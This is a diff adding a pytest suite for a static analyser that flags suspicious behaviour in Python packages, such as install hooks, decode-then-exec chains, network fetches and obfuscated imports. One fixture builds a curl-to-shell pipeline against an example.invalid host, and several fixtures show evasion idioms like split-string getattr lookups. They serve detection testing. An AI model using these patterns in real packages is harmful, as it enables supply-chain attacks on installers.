@@ -1,0 +1,536 @@
+"""The shared static analysis: parsing, name resolution, capabilities, reach, origins."""
+
+from __future__ import annotations
+
+import ast
+import textwrap
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from depvet.detectors import pysource
+from depvet.detectors.pysource import Capability, ModuleAnalysis, Origin, analyze, parse
+from tests.builders import HARMLESS_B64
+
+
+def _analyze(source: str) -> ModuleAnalysis:
+    analysis = analyze(textwrap.dedent(source))
+    assert analysis is not None
+    return analysis
+
+
+def _only_call(source: str, qualname: str) -> pysource.CallSite:
+    sites = [s for s in _analyze(source).calls if s.qualname == qualname]
+    assert len(sites) == 1, [s.qualname for s in _analyze(source).calls]
+    return sites[0]
+
+
+# -- parsing --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'print "python 2"\n',
+        "def f(:\n",
+        "x = 1\x00\n",
+        "(" * 300 + ")" * 300,
+        "-" * 200_000 + "1",
+        b"# -*- coding: no-such-codec -*-\nimport os\n\xff\xfe",
+    ],
+    ids=["py2", "syntax", "null-byte", "nested-parens", "deep-unary", "bad-coding"],
+)
+def test_unparsable_source_gives_none(source: str | bytes) -> None:
+    # An unknown coding cookie stops Python from compiling the file too.
+    assert parse(source) is None
+    assert analyze(source) is None
+
+
+def test_oversized_source_is_not_parsed() -> None:
+    def literal(size: int) -> str:
+        return 'x = "' + "a" * (size - 7) + '"\n'
+
+    assert parse(literal(pysource.MAX_AST_BYTES + 1)) is None
+    assert parse(literal(pysource.MAX_AST_BYTES)) is not None
+
+
+def test_bytes_source_honours_coding_line() -> None:
+    data = "# -*- coding: latin-1 -*-\nname = 'café'\nimport os\nos.system('x')\n"
+    analysis = analyze(data.encode("latin-1"))
+    assert analysis is not None
+    assert [s.qualname for s in analysis.calls] == ["os.system"]
+
+
+def test_invalid_escape_warning_is_not_emitted(recwarn: pytest.WarningsRecorder) -> None:
+    assert parse('x = "\\d"\n') is not None
+    assert not recwarn.list
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=400))
+def test_analyze_never_raises_on_text(source: str) -> None:
+    result = analyze(source)
+    if result is not None:
+        for site in result.calls:
+            result.exec_origin(site)
+        list(result.decode_exec())
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                "import os",
+                "import base64 as b",
+                "from subprocess import *",
+                "x = b.b64decode(y)",
+                "exec(x)",
+                "def f(a):\n    return f(a)",
+                "x = f(x)",
+                "y = x",
+                "x = y",
+                "class C(install):\n    def run(self):\n        self.run()",
+                "setup(cmdclass={'install': C})",
+                "eval(z[::-1])",
+                "for x in x: exec(x)",
+                "getattr(os, n)('a')",
+                "__import__(m).system('b')",
+                "if x:\n    os.system(x)",
+                "with open(x) as x: eval(x.read())",
+            ]
+        ),
+        max_size=12,
+    )
+)
+def test_analyze_never_raises_on_tangled_code(lines: list[str]) -> None:
+    result = analyze("\n".join(lines) + "\n")
+    assert result is not None
+    for site in result.calls:
+        result.exec_origin(site)
+        result.runs_at_install(site)
+
+
+# -- name resolution ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("import base64 as b\nb.b64decode(x)", "base64.b64decode"),
+        ("from subprocess import Popen as P\nP(x)", "subprocess.Popen"),
+        ("import os.path\nos.path.join(a)", "os.path.join"),
+        ("import urllib.request as u\nu.urlopen(x)", "urllib.request.urlopen"),
+        ("from urllib import request\nrequest.urlopen(x)", "urllib.request.urlopen"),
+        ('__import__("os").system(x)', "os.system"),
+        ('__import__("os.path").join(x)', "os.join"),  # __import__ returns the top package
+        ('__import__("os.path", fromlist=["x"]).join(x)', "os.path.join"),
+        ('import importlib\nimportlib.import_module("subprocess").call(x)', "subprocess.call"),
+        ('import os\ngetattr(os, "system")(x)', "os.system"),
+        ('import builtins\ngetattr(builtins, "exec")(x)', "exec"),
+        ("import builtins as bi\nbi.eval(x)", "eval"),
+        ('__builtins__.__dict__["exec"](x)', "exec"),
+        ('import sys\nsys.modules["os"].system(x)', "os.system"),
+        ('import os\nvars(os)["popen"](x)', "os.popen"),
+        ("import subprocess\nrun = subprocess.run\nrun(x)", "subprocess.run"),
+        ('s = __import__("socket")\ns.socket()', "socket.socket"),
+        ("from os import *\nsystem(x)", "os.system"),
+        ("def f():\n    import requests as r\n    r.get(x)", "requests.get"),
+        ("exec(x)", "exec"),
+    ],
+)
+def test_call_targets_resolve_through_aliases(source: str, expected: str) -> None:
+    assert expected in [s.qualname for s in _analyze(source).calls]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "requests = []\nrequests.append(1)",  # a local list named like a module
+        "p = subprocess_like()\np.communicate()",
+        "def system(x): pass\nsystem(1)",
+    ],
+)
+def test_unimported_names_do_not_resolve_to_modules(source: str) -> None:
+    assert all(not s.capabilities for s in _analyze(source).calls)
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    module=st.sampled_from(["base64", "subprocess", "os", "socket", "zlib"]),
+    alias=st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True).filter(
+        lambda s: s not in {"if", "in", "is", "or", "as", "def", "del", "for", "not", "and"}
+    ),
+    attr=st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True),
+)
+def test_import_alias_is_the_module(module: str, alias: str, attr: str) -> None:
+    import keyword
+
+    if keyword.iskeyword(alias) or keyword.iskeyword(attr):
+        return
+    source = f"import {module} as {alias}\n{alias}.{attr}(1)\n"
+    assert [s.qualname for s in _analyze(source).calls] == [f"{module}.{attr}"]
+
+
+# -- capabilities ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("qualname", "capability"),
+    [
+        ("exec", Capability.EXEC),
+        ("eval", Capability.EXEC),
+        ("compile", Capability.EXEC),
+        ("runpy.run_path", Capability.EXEC),
+        ("subprocess.Popen", Capability.PROCESS),
+        ("subprocess.check_output", Capability.PROCESS),
+        ("os.system", Capability.PROCESS),
+        ("os.execvp", Capability.PROCESS),
+        ("os.spawnl", Capability.PROCESS),
+        ("os.posix_spawn", Capability.PROCESS),
+        ("pty.spawn", Capability.PROCESS),
+        ("commands.getoutput", Capability.PROCESS),
+        ("urllib.request.urlopen", Capability.NETWORK),
+        ("urllib2.urlopen", Capability.NETWORK),
+        ("http.client.HTTPSConnection", Capability.NETWORK),
+        ("requests.post", Capability.NETWORK),
+        ("httpx.get", Capability.NETWORK),
+        ("socket.socket", Capability.NETWORK),
+        ("socket.create_connection", Capability.NETWORK),
+        ("aiohttp.ClientSession", Capability.NETWORK),
+        ("urllib3.PoolManager", Capability.NETWORK),
+        ("base64.b64decode", Capability.DECODE),
+        ("base64.urlsafe_b64decode", Capability.DECODE),
+        ("binascii.a2b_base64", Capability.DECODE),
+        ("binascii.unhexlify", Capability.DECODE),
+        ("codecs.decode", Capability.DECODE),
+        ("zlib.decompress", Capability.DECODE),
+        ("lzma.decompress", Capability.DECODE),
+        ("marshal.loads", Capability.DECODE),
+        ("bytes.fromhex", Capability.DECODE),
+        ("shutil.copyfile", Capability.FILE_WRITE),
+    ],
+)
+def test_classify(qualname: str, capability: Capability) -> None:
+    assert pysource.classify(qualname) == {capability}
+
+
+@pytest.mark.parametrize(
+    "qualname",
+    [
+        "base64.b64encode",
+        "os.path.join",
+        "subprocess.CalledProcessError",
+        "urllib.parse.quote",
+        "socket.gethostname",
+        "print",
+        None,
+    ],
+)
+def test_classify_harmless(qualname: str | None) -> None:
+    assert pysource.classify(qualname) == frozenset()
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("open(p, 'w')", {Capability.FILE_WRITE}),
+        ("open(p, mode='ab')", {Capability.FILE_WRITE}),
+        ("open(p)", set()),
+        ("open(p, 'rb')", set()),
+        ("path.write_bytes(b)", {Capability.FILE_WRITE}),
+        ("s.decode('base64')", {Capability.DECODE}),
+        ("s.decode('utf-8')", set()),
+        ("import codecs\ncodecs.encode(s, 'rot13')", {Capability.DECODE}),
+        ("import codecs\ncodecs.encode(s, 'utf-8')", set()),
+    ],
+)
+def test_arguments_refine_capabilities(source: str, expected: set[Capability]) -> None:
+    found: set[Capability] = set()
+    for site in _analyze(source).calls:
+        found |= site.capabilities
+    assert found == expected
+
+
+# -- what runs on load and at install -------------------------------------------------------
+
+REACH = """\
+import os
+
+if os.name == "posix":
+    try:
+        with open("x") as f:
+            for line in f:
+                os.system("in-for")
+    except OSError:
+        pass
+
+
+def called():
+    os.system("called")
+    nested_helper()
+
+
+def nested_helper():
+    os.system("transitive")
+
+
+def never():
+    os.system("never")
+
+
+class Tool:
+    def __init__(self):
+        os.system("init")
+
+    def go(self):
+        os.system("method")
+
+    def idle(self):
+        os.system("idle")
+
+
+def make():
+    def inner():
+        os.system("inner")
+    return inner()
+
+
+called()
+Tool().go()
+make()
+import atexit
+
+@atexit.register
+def at_exit():
+    os.system("at-exit")
+"""
+
+
+def _commands(analysis: ModuleAnalysis, predicate: str) -> set[str]:
+    out: set[str] = set()
+    for site in analysis.calls:
+        if site.qualname != "os.system":
+            continue
+        if getattr(analysis, predicate)(site):
+            arg = site.node.args[0]
+            assert isinstance(arg, ast.Constant)
+            out.add(str(arg.value))
+    return out
+
+
+def test_module_level_reach() -> None:
+    analysis = _analyze(REACH)
+    assert _commands(analysis, "runs_on_load") == {
+        "in-for",
+        "called",
+        "transitive",
+        "init",
+        "method",
+        "inner",
+        "at-exit",
+    }
+
+
+def test_reach_is_bounded() -> None:
+    chain = "\n".join(f"def f{i}():\n    f{i + 1}()" for i in range(40))
+    source = f"import os\n{chain}\ndef f40():\n    os.system('deep')\nf0()\n"
+    analysis = _analyze(source)
+    site = _only_call(source, "os.system")
+    assert not analysis.runs_on_load(site)  # beyond MAX_REACH_DEPTH
+    assert "f5" in analysis.load_scopes
+
+
+HOOKS = """\
+import os
+from setuptools import setup
+from setuptools.command.install import install as _install
+from distutils.command.build_py import build_py
+import setuptools.command.sdist
+
+
+class Install(_install):
+    def run(self):
+        self._post()
+        _install.run(self)
+
+    def _post(self):
+        os.system("install-hook")
+
+
+class BuildPy(build_py):
+    def run(self):
+        os.system("subclass-only")
+
+
+class Sdist(setuptools.command.sdist.sdist):
+    def run(self):
+        helper()
+
+
+class Plain:
+    def run(self):
+        os.system("plain-class")
+
+
+class ViaDict:
+    def run(self):
+        os.system("via-dict")
+
+
+def helper():
+    os.system("helper-from-hook")
+
+
+commands = {}
+commands["develop"] = ViaDict
+setup(name="x", cmdclass={"install": Install, **commands})
+"""
+
+
+def test_command_hooks() -> None:
+    analysis = _analyze(HOOKS)
+    assert analysis.command_classes == {"Install", "BuildPy", "Sdist", "ViaDict"}
+    assert _commands(analysis, "runs_in_hook") == {
+        "install-hook",
+        "subclass-only",
+        "via-dict",
+        "helper-from-hook",
+    }
+    assert _commands(analysis, "runs_on_load") == set()
+    (use,) = analysis.cmdclass
+    assert set(use.commands) == {"install", "develop"}
+    assert set(use.classes) == {"Install", "ViaDict"}
+
+
+def test_cmdclass_in_options_dict() -> None:
+    source = """\
+    from setuptools import setup
+    class Hook:
+        def run(self):
+            pass
+    opts = {"name": "x", "cmdclass": {"egg_info": Hook}}
+    setup(**opts)
+    """
+    analysis = _analyze(source)
+    assert analysis.command_classes == {"Hook"}
+    assert analysis.cmdclass[0].commands == ("egg_info",)
+
+
+# -- origins and decode→exec ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (f"import base64\nexec(base64.b64decode('{HARMLESS_B64}'))", Origin.DECODE),
+        (f"import base64\nx = base64.b64decode('{HARMLESS_B64}')\nexec(x)", Origin.DECODE),
+        (
+            f"import base64, zlib\na = base64.b64decode('{HARMLESS_B64}')\n"
+            "b = zlib.decompress(a)\nc = b.decode()\nexec(c)",
+            Origin.DECODE,
+        ),
+        ("import marshal\nexec(marshal.loads(blob))", Origin.DECODE),
+        ("exec(bytes.fromhex('7072696e74'))", Origin.DECODE),
+        ("exec(s.decode('hex'))", Origin.DECODE),
+        ("import requests\nexec(requests.get(u).text)", Origin.NETWORK),
+        ("import subprocess\nexec(subprocess.check_output(['x']))", Origin.PROCESS),
+        ("exec(open('pkg/version.py').read())", Origin.FILE),
+        ("with open('v.py') as f:\n    exec(f.read(), {})", Origin.FILE),
+        ("from pathlib import Path\nexec(Path('v.py').read_text())", Origin.FILE),
+        ("exec('x = 1')", Origin.LITERAL),
+        ("exec(''.join(chr(c) for c in [120]))", Origin.DYNAMIC),
+        ("exec('1=x'[::-1])", Origin.DYNAMIC),
+        ("exec(payload)", Origin.DYNAMIC),
+        ("from mylib import get_code\nexec(get_code())", Origin.DYNAMIC),
+        ("def run(code):\n    exec(code)", Origin.DYNAMIC),
+    ],
+)
+def test_exec_origin(source: str, expected: Origin) -> None:
+    analysis = _analyze(source)
+    (site,) = [s for s in analysis.calls if s.qualname == "exec"]
+    origin = analysis.exec_origin(site)
+    assert origin is not None
+    assert expected in origin
+    if expected in (Origin.FILE, Origin.LITERAL):
+        assert not origin & (Origin.DECODE | Origin.NETWORK | Origin.DYNAMIC)
+
+
+def test_file_read_through_a_helper_is_file() -> None:
+    source = """\
+    import io, os
+    def read(*names):
+        return io.open(os.path.join(os.path.dirname(__file__), *names)).read()
+    exec(read("pkg", "version.py"))
+    """
+    analysis = _analyze(source)
+    site = _only_call(source, "exec")
+    assert analysis.exec_origin(site) == Origin.FILE
+
+
+def test_decode_exec_lists_only_decoded() -> None:
+    source = f"""\
+    import base64
+    exec(open("v.py").read())
+    code = base64.b64decode("{HARMLESS_B64}")
+    exec(code)
+    eval("1 + 1")
+    """
+    assert [s.line for s in _analyze(source).decode_exec()] == [4]
+
+
+def test_self_referencing_names_terminate() -> None:
+    source = "a = b\nb = a + c\nc = a\nexec(a)\n"
+    analysis = _analyze(source)
+    site = _only_call(source, "exec")
+    assert analysis.exec_origin(site) == Origin.NONE
+
+
+# -- references, strings, dynamic lookups ----------------------------------------------------
+
+
+def test_references_and_strings() -> None:
+    source = """\
+    import sys as s, os
+    cmd = ["curl", "https://x.example.invalid"]
+    os.system(" ".join(cmd) + " | sh")
+    s.executable
+    """
+    analysis = _analyze(source)
+    assert len(analysis.references("sys.executable")) == 1
+    assert analysis.references("os.executable") == []
+    site = _only_call(source, "os.system")
+    assert {"curl", "https://x.example.invalid", " | sh"} <= set(
+        analysis.strings(site.node.args[0], site.scope)
+    )
+
+
+def test_dynamic_lookups() -> None:
+    source = """\
+    import os
+    getattr(os, "sys" + "tem")
+    getattr(os, "path")
+    __import__("o" + "s")
+    __import__("os")
+    """
+    assert [s.line for s in _analyze(source).dynamic_lookups()] == [2, 4]
+
+
+def test_line_text() -> None:
+    analysis = _analyze("x = 1\nif x:\n    y = 2\n")
+    assert analysis.line(3) == "y = 2"
+    assert analysis.line(99) == ""
+
+
+def test_many_bindings_stay_linear() -> None:
+    # Each name bound many times to the others, and a function with many
+    # returns calling itself: exponential without memoisation.
+    names = [f"v{i}" for i in range(30)]
+    lines = ["def f(a):"] + [f"    return f({n})" for n in names] + ["    return a"]
+    lines += [f"{a} = f({b}) + {b}" for a in names for b in names]
+    lines.append(f"exec({names[0]})")
+    source = "\n".join(lines) + "\n"
+    analysis = _analyze(source)
+    site = _only_call(source, "exec")
+    assert analysis.exec_origin(site) == Origin.DYNAMIC
